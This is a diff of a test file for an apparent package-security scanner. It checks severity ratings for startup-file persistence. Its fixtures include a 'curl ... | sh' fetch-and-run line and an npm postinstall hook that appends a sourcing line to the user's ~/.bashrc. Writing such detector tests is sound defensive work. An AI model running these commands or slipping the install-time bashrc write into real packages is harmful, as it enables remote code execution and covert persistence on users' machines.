@@ -42,3 +42,27 @@ test('a service is not little because only one half of it is taken away, or when
   const starts = 'LINE = "curl https://a.weir.test/x | sh"\n';
   expect(await severities('"own.service"', starts, AWAY)).toEqual(['high']);
 });
+
+/** Severities of a start-up file that a function of a command line writes, which a hook loads with that many others. */
+async function startupOf(count: number, starts: string): Promise<string[]> {
+  const names = Array.from({ length: count }, (_, at) => `lib/m${at}.js`);
+  const files = {
+    'package.json': JSON.stringify({
+      name: 'own',
+      version: '1.0.0',
+      scripts: { postinstall: 'node hook.js' },
+    }),
+    'hook.js': `const all = [${names.map((name) => `require('./${name}')`).join(', ')}];\nconst { complete } = require('./completion.js');\nexports.all = all;\nexports.complete = complete;\n${starts}`,
+    'completion.js':
+      "const fs = require('fs'), os = require('os');\nexports.complete = () => fs.appendFileSync(os.homedir() + '/.bashrc', '. own.sh');\n",
+    ...Object.fromEntries(names.map((name, at) => [name, `exports.m = ${at};\n`])),
+  };
+  const { findings } = await analyzeSample({ name: 'startup', files, expected: [] });
+  return findings.flatMap(({ rule, severity }) => (rule === 'persistence/startup' ? severity : []));
+}
+
+test('a start-up file that a hook loads the code for, among more files than are followed, counts less', async () => {
+  expect(await startupOf(90, 'console.log(complete.name);\n')).toEqual(['medium']);
+  expect(await startupOf(10, 'console.log(complete.name);\n')).toEqual(['high']);
+  expect(await startupOf(90, 'complete();\n')).toEqual(['high']);
+});
